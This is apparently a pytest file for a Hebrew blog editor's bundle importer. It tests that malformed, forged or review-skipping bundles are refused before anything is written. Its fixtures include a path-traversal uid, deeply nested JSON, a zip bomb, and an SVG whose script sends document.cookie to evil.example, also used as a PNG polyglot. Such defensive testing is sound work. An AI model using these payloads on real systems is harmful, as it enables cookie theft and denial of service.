"""Bad bundles are refused with a message naming the field, before anything is written; review is not skipped."""

import hashlib
import json
import zipfile

import pytest
from bundle_helpers import PNG, json_member, library_state, post_with_history, rewrite

from editor.core.errors import BundleError
from editor.core.library.store import Library
from editor.core.models import Post, Status
from editor.core.review import workflow as review
from editor.core.review.bundle import import_bundle, write_bundle
from editor.core.review.bundle_schema import MAX_JSON_MEMBER_BYTES


@pytest.fixture
def writer(tmp_path):
    with Library.open(tmp_path / "writer.sqlite") as lib:
        yield lib


@pytest.fixture
def editor_lib(tmp_path):
    with Library.open(tmp_path / "editor.sqlite") as lib:
        lib.add_post(Post(title="פוסט שכבר בספרייה", body="טקסט"))
        yield lib


@pytest.fixture
def bundle(writer, tmp_path):
    post = post_with_history(writer)
    return write_bundle(writer, post.id, tmp_path / "כיתה.ktav")


def refused(library, path) -> BundleError:
    """Import `path`, expecting a refusal that changes nothing; the error."""
    before = library_state(library)
    with pytest.raises(BundleError) as caught:
        import_bundle(library, path)
    assert "nothing was imported" in caught.value.message and "שום דבר לא יובא" in caught.value.message_he
    assert library_state(library) == before
    return caught.value


def changed(path, name, change):
    value = json_member(path, name)
    change(value)
    return rewrite(path, {name: value})


@pytest.mark.parametrize("name, change, field", [
    ("post.json", lambda p: p.update(related=7), "related"),
    ("post.json", lambda p: p["content"].update(author={"name": "מיכל"}), "content.author"),
    ("post.json", lambda p: p["content"].update(title=["כיתת", "מצוינות"]), "content.title"),
    ("post.json", lambda p: p["content"].update(tags={"חינוך": 1}), "content.tags"),
    ("post.json", lambda p: p["content"].update(date="2019-13-45"), "content.date"),
    ("post.json", lambda p: p["content"].update(status="live"), "content.status"),
    ("post.json", lambda p: p.update(uid="../../etc"), "uid"),
    ("post.json", lambda p: p["content"].pop("body"), "content.body"),
    ("status_history.json", lambda h: h[0].update({"from": {"status": "draft"}}), "[0].from"),
    ("status_history.json", lambda h: h.append({"to": "approved"}), "[1].at"),
    ("comments.json", lambda c: c[0].update(author={"name": "מיכל"}), "[0].author"),
    ("comments.json", lambda c: c[0].update(anchor=[1, 2]), "[0].anchor"),
    ("comments.json", lambda c: c[1].update(paragraph="שתיים"), "[1].paragraph"),
    ("revisions.json", lambda r: r[1].update(uid=r[0]["uid"]), "[1].uid"),
    ("revisions.json", lambda r: r[0]["snapshot"].update(tags="חינוך"), "[0].snapshot.tags"),
    ("revisions.json", lambda r: r[0].update(reason="deleted"), "[0].reason"),
    ("images.json", lambda i: i[0].update(sha256=7), "[0].sha256"),
])
def test_a_field_of_the_wrong_shape_is_named(editor_lib, bundle, name, change, field):
    error = refused(editor_lib, changed(bundle, name, change))
    assert name in error.message and field in error.message
    assert name in error.message_he and field in error.message_he


def test_text_that_cannot_be_stored_is_refused(editor_lib, bundle):
    post = json_member(bundle, "post.json")
    data = json.dumps(post, ensure_ascii=False).replace('"כיתת מצוינות"', '"כיתת \\ud800 מצוינות"').encode()
    error = refused(editor_lib, rewrite(bundle, {"post.json": data}))
    assert "content.title must be valid text" in error.message


def test_deeply_nested_json_is_refused_before_it_is_parsed(editor_lib, bundle):
    deep = b'{"uid": "x", "content": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    error = refused(editor_lib, rewrite(bundle, {"post.json": deep}))
    assert "nests deeper" in error.message and "post.json" in error.message


def test_a_bomb_is_refused_by_what_it_unpacks_to_not_by_what_it_declares(editor_lib, bundle):
    """0.9 MB of zip that unpacks to 900 MB: reading stops past the member's cap."""
    members = {}
    with zipfile.ZipFile(bundle) as archive:
        for name in archive.namelist():
            members[name] = archive.read(name)
    manifest = json.loads(members.pop("manifest.json"))
    chunk, count = b" " * (1 << 20), 900
    digest = hashlib.sha256(b"[")
    for _ in range(count):
        digest.update(chunk)
    digest.update(b"]")
    manifest["members"]["revisions.json"] = digest.hexdigest()
    with zipfile.ZipFile(bundle, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            if name != "revisions.json":
                archive.writestr(name, data)
        with archive.open("revisions.json", "w", force_zip64=True) as member:
            member.write(b"[")
            for _ in range(count):
                member.write(chunk)
            member.write(b"]")
        archive.writestr("manifest.json", json.dumps(manifest))
    assert bundle.stat().st_size < 2 * (1 << 20)
    error = refused(editor_lib, bundle)
    assert "too large" in error.message and "revisions.json" in error.message
    assert f"{MAX_JSON_MEMBER_BYTES >> 20} MB" in error.message


def test_a_revision_id_of_another_post_is_refused(writer, editor_lib, bundle, tmp_path):
    import_bundle(editor_lib, bundle)
    other = writer.add_post(Post(title="פוסט אחר", body="טקסט אחר"))
    theirs = json_member(bundle, "revisions.json")[0]["uid"]
    forged = write_bundle(writer, other.id, tmp_path / "אחר.ktav")
    error = refused(editor_lib, changed(forged, "revisions.json", lambda r: r[0].update(uid=theirs)))
    assert "revisions.json[0].uid" in error.message and "another post" in error.message


SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b'<script>fetch("https://evil.example/?c=" + document.cookie)</script></svg>')


def with_image(path, data: bytes, mime: str):
    sha = hashlib.sha256(data).hexdigest()
    post = json_member(path, "post.json")
    post["content"]["body"] += f"\n\n![תרשים](ktav-image:{sha})"
    images = json_member(path, "images.json") + [{"sha256": sha, "filename": "תרשים.svg", "mime": mime}]
    return rewrite(path, {"post.json": post, "images.json": images, f"images/{sha}": data}), sha


def test_a_hostile_svg_in_a_bundle_is_refused(editor_lib, bundle):
    path, _ = with_image(bundle, SVG, "image/svg+xml")
    error = refused(editor_lib, path)
    assert "not a PNG, JPEG, GIF or WebP image" in error.message


def test_an_image_is_stored_as_what_its_bytes_are_not_as_what_the_bundle_says(editor_lib, bundle):
    polyglot = PNG + SVG  # a real PNG header with a script after it
    path, sha = with_image(bundle, polyglot, "image/svg+xml")
    import_bundle(editor_lib, path)
    assert editor_lib.get_image(sha).mime == "image/png"
    assert {i.mime for i in editor_lib.images()} == {"image/png"}


def test_magic_bytes_in_front_of_an_svg_are_not_an_image(editor_lib, bundle):
    path, _ = with_image(bundle, b"\xff\xd8\xff" + SVG, "image/jpeg")
    assert "not a PNG, JPEG" in refused(editor_lib, path).message


# -- review is not skipped ----------------------------------------------------------------


def draft_bundle(library, tmp_path):
    post = library.add_post(Post(title="טיוטה של מיכל", body="פסקה ראשונה.", author="מיכל"))
    return post, write_bundle(library, post.id, tmp_path / "טיוטה.ktav")


def test_a_bundle_cannot_publish_a_draft_without_recorded_review(writer, tmp_path):
    post, path = draft_bundle(writer, tmp_path)
    forged = changed(path, "post.json", lambda p: p["content"].update(status="published", body="טקסט אחר."))
    error = refused(writer, forged)
    assert "from draft to published" in error.message and "טיוטה" in error.message_he
    assert writer.get_post(post.id).status is Status.DRAFT


def test_a_recorded_move_that_review_forbids_is_refused(writer, tmp_path):
    post, path = draft_bundle(writer, tmp_path)
    rewrite(path, {"status_history.json": [{"from": "draft", "to": "published", "author": "זר", "note": "",
                                            "at": "2026-11-27T03:16:12.000000Z"}]})
    forged = changed(path, "post.json", lambda p: p["content"].update(status="published"))
    error = refused(writer, forged)
    assert "status_history.json[0]" in error.message and "does not allow" in error.message
    assert writer.get_post(post.id).status is Status.DRAFT


def test_moves_recorded_and_allowed_bring_the_status_with_them(writer, editor_lib, tmp_path):
    post, path = draft_bundle(writer, tmp_path)
    arrived = import_bundle(editor_lib, path)
    for status in (Status.IN_REVIEW, Status.APPROVED, Status.PUBLISHED):
        review.change_status(editor_lib, arrived.post_id, status, "דנה")
    back = import_bundle(writer, write_bundle(editor_lib, arrived.post_id, tmp_path / "back.ktav"))
    assert back.updated and writer.get_post(post.id).status is Status.PUBLISHED
    assert [h["to"] for h in writer.status_history(post.id)] == ["in_review", "approved", "published"]


def test_a_status_that_its_recorded_moves_do_not_reach_is_refused(writer, editor_lib, tmp_path):
    _, path = draft_bundle(writer, tmp_path)
    arrived = import_bundle(editor_lib, path)
    review.change_status(editor_lib, arrived.post_id, Status.IN_REVIEW, "דנה")
    forged = write_bundle(editor_lib, arrived.post_id, tmp_path / "forged.ktav")
    changed(forged, "post.json", lambda p: p["content"].update(status="approved"))
    assert "end at in_review" in refused(writer, forged).message
